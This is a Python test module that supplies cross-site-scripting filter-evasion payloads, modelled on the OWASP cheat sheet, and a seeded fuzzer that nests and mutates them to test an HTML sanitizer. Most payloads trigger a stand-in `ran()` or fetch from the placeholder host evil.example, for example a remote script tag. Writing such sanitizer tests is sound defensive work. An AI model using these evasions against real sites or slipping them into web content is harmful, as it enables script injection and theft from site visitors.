"""Hostile HTML: ways round filters after the OWASP Filter Evasion Cheat Sheet, and random bodies made of such pieces.

All strings are our own. Each tries to call `ran()`, or to have `evil.example` asked for something.
"""

from __future__ import annotations

import random
from collections.abc import Callable

RUN = "ran()"
FOREIGN = "evil.example"
SEED = 20261126

# Beyond the list of tests/reader/ingest/test_html.py: namespaces, raw text, mutation, URLs, encodings.
EVASIONS = [
    "<img src=x onerror=ran()>",
    "<img src=x:x onerror&#61;ran()>",
    "<img src=x onerror\n=\nran()>",
    "<img/src=x/onerror=ran()>",
    "<IMG SRC=x OnErRoR=ran()>",
    "<img src=x onerror=ran() //",
    "<img src='x' title='\"><img src=x onerror=ran()>'>",
    "<img alt=`><script>ran()</script>`>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
    "<picture><source srcset=https://evil.example/p><img></picture>",
    "<image href=https://evil.example/i onerror=ran()>",
    "<svg/onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><set onbegin=ran() attributeName=x>",
    "<svg><a><animate attributeName=href values=javascript:ran()></animate><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=ran()></svg>#x'></use></svg>",
    "<svg><image href=https://evil.example/s></image></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran()</script>'></iframe></foreignObject></svg>",
    "<svg><desc><img src=x onerror=ran()></desc></svg>",
    "<svg><title><img src=x onerror=ran()></title></svg>",
    "<svg><p><style><!--</style><img src=x onerror=ran()>--></style>",
    '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
    "<math><annotation-xml encoding='text/html'><img src=x onerror=ran()></annotation-xml></math>",
    "<math><mi><table><mglyph><svg><mtext><textarea><path id='</textarea><img src=x onerror=ran()>'>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
    "<math href=javascript:ran()>x</math>",
    "<table><td background=https://evil.example/t>x</td></table>",
    "<table><tr><svg><td><style><img src=x onerror=ran()></style></svg>",
    "<select><template><img src=x onerror=ran()></template></select>",
    "<select><style></select><img src=x onerror=ran()></style>",
    "<noembed><img title='</noembed><img src=x onerror=ran()>'>",
    "<noscript><style></noscript><img src=x onerror=ran()></style>",
    "<iframe><img title='</iframe><img src=x onerror=ran()>'>",
    "<xmp><p title='</xmp><script>ran()</script>'>",
    "<textarea><img title='</textarea><img src=x onerror=ran()>'>",
    "<title><p title='</title><img src=x onerror=ran()>'>",
    "<plaintext><script>ran()</script>",
    "<style><!--</style><script>ran()//--></script>",
    "<style>@import url(https://evil.example/c.css);</style>",
    "<style>*{background:url('https://evil.example/d')}</style>",
    "<link rel=preload as=image href=https://evil.example/l>",
    "<link rel=icon href=https://evil.example/f><link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/m'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>ran()</script>",
    "<base href=https://evil.example/><img src=x>",
    "<body background=https://evil.example/b onpageshow=ran()>",
    "<bgsound src=https://evil.example/w>",
    "<input type=image src=https://evil.example/n onerror=ran()>",
    "<video poster=https://evil.example/v autoplay><source src=https://evil.example/w onerror=ran()></video>",
    "<audio src=https://evil.example/a autoplay onerror=ran()></audio>",
    "<track src=https://evil.example/k>",
    "<object data=https://evil.example/o><param name=x></object>",
    "<embed src=javascript:ran()>",
    "<applet code=x.class codebase=https://evil.example/></applet>",
    "<frameset onload=ran()><frame src=javascript:parent.ran()></frameset>",
    "<marquee onstart=ran()>x</marquee>",
    "<details open ontoggle=ran()><summary>x</summary></details>",
    "<dialog open oncancel=ran()>x</dialog>",
    "<p onanimationstart=ran() style='animation-name:x'>x</p>",
    "<p autofocus tabindex=0 onfocus=ran()>x</p>",
    "<a href='javascript&colon;ran()'>x</a>",
    "<a href='java&NewLine;script&Tab;:ran()'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:ran()'>x</a>",
    "<a href='\x01javascript:ran()'>x</a>",
    "<a href=javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/x=1/+ran()//'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg=='>x</a>",
    "<a ping=https://evil.example/ping href=https://evil.example/>x</a>",
    "<button form=f formaction=javascript:ran()>x</button><form id=f></form>",
    "<template shadowrootmode=open><script>ran()</script><img src=x onerror=ran()></template>",
    "<div><template shadowroot=open><slot></slot><img src=x onerror=ran()></template></div>",
    "<!--><img src=x onerror=ran()>-->",
    "<!---!><img src=x onerror=ran()>-->",
    "<!-- --!><img src=x onerror=ran()> -->",
    "<![CDATA[><img src=x onerror=ran()>]]>",
    "<!DOCTYPE x [<!ENTITY a '<img src=x onerror=ran()>'>]>&a;",
    "<?php echo '<img src=x onerror=ran()>' ?>",
    "<%<img src=x onerror=ran()>%>",
    "<script>ran()",
    "<script src=//evil.example/s.js></script>",
    "<script type=module>ran()</script>",
    "<script>ran()<!--",
    "<scr\x00ipt>ran()</scr\x00ipt>",
    "<<img src=x onerror=ran()>",
    "</p><img src=x onerror=ran()></p>",
    "\u2028<img\u2028src=x\u2028onerror=ran()>",
    "<img src=x onerror=ran()\ufeff>",
    "&lt;img src=x onerror=ran()&gt;",
    "&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;",
    "{{constructor.constructor('ran()')()}}",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
]
_WRAPPERS = [
    "p",
    "div",
    "table",
    "tr",
    "td",
    "select",
    "option",
    "svg",
    "math",
    "mtext",
    "mglyph",
    "annotation-xml",
    "foreignObject",
    "desc",
    "title",
    "style",
    "noscript",
    "template",
    "textarea",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "plaintext",
    "form",
    "button",
    "a",
    "b",
    "ul",
    "li",
    "h1",
    "caption",
    "colgroup",
    "frameset",
    "object",
    "ruby",
    "rt",
]
_EVENTS = [
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onbegin",
    "onscroll",
    "onanimationend",
    "onpointerenter",
    "onbeforeinput",
]
_URLS = ["javascript:ran()", "https://evil.example/x", "//evil.example/y", "data:text/html,<script>ran()</script>", "x"]
_SPACES = ["", " ", "\t", "\n", "\x00", "\x0c", "/", "\u00a0", "\ufeff"]

_INSERTS = [*_SPACES, "<", ">", "'", '"', "<!--", "-->", "</style>", "]]>", "&", ";"]


def body(rng: random.Random) -> str:
    """Return one body: pieces, nested at random, with words of an honest article between, and then spoilt."""
    html = "".join(_piece(rng, rng.randint(0, 5)) for _ in range(rng.randint(1, 4)))
    html = f"<p>The salt trade built cities along the coast.</p>{html}<p>And the roads between them.</p>"
    for _ in range(rng.randint(0, 4)):
        html = rng.choice(_SPOILERS)(rng, html)
    return html


def bodies(count: int, seed: int = SEED) -> list[str]:
    """Return that many bodies, always the same."""
    rng = random.Random(seed)
    return [body(rng) for _ in range(count)]


def _piece(rng: random.Random, depth: int) -> str:
    if depth == 0 or rng.random() < 0.3:
        return rng.choice([rng.choice(EVASIONS), f"<{rng.choice(_WRAPPERS)}{_attribute(rng)}>"])
    tag = rng.choice(_WRAPPERS)
    inner = "".join(_piece(rng, depth - 1) for _ in range(rng.randint(1, 2)))
    end = rng.choice([f"</{tag}>", f"</{rng.choice(_WRAPPERS)}>", f"</{tag}", ""])
    return f"<{tag}{_attribute(rng)}>{inner}{end}"


def _attribute(rng: random.Random) -> str:
    quote, space = rng.choice(["", "'", '"', "`"]), rng.choice(_SPACES)
    name, value = rng.choice(
        [
            (rng.choice(_EVENTS), RUN),
            (rng.choice(["href", "src", "xlink:href", "action", "formaction", "data", "poster"]), rng.choice(_URLS)),
            ("style", f"background:url({rng.choice(_URLS)})"),
            ("title", rng.choice(EVASIONS)),
            ("id", "x"),
        ]
    )
    return f" {name}{space}={space}{quote}{value}{quote}"


def _insert(rng: random.Random, html: str) -> str:
    at = rng.randrange(len(html) + 1)
    return (
        html[:at] + rng.choice([*_SPACES, "<", ">", "'", '"', "<!--", "-->", "</style>", "]]>", "&", ";"]) + html[at:]
    )


def _cut(rng: random.Random, html: str) -> str:
    return html[: rng.randrange(len(html) // 2, len(html) + 1)]


def _double(rng: random.Random, html: str) -> str:
    start = rng.randrange(len(html))
    return html + html[start : start + rng.randint(1, 60)]


def _change_case(rng: random.Random, html: str) -> str:
    at = rng.randrange(len(html))
    return html[:at] + html[at : at + 20].swapcase() + html[at + 20 :]


def _encode(rng: random.Random, html: str) -> str:
    at = rng.randrange(len(html))
    return (
        html[:at]
        + rng.choice([f"&#{ord(html[at])};", f"&#x{ord(html[at]):x}", f"&#{ord(html[at]):07d}"])
        + html[at + 1 :]
    )


def _drop(rng: random.Random, html: str) -> str:
    at = rng.randrange(len(html))
    return html[:at] + html[at + rng.randint(1, 3) :]


_SPOILERS: list[Callable[[random.Random, str], str]] = [_insert, _insert, _cut, _double, _change_case, _encode, _drop]
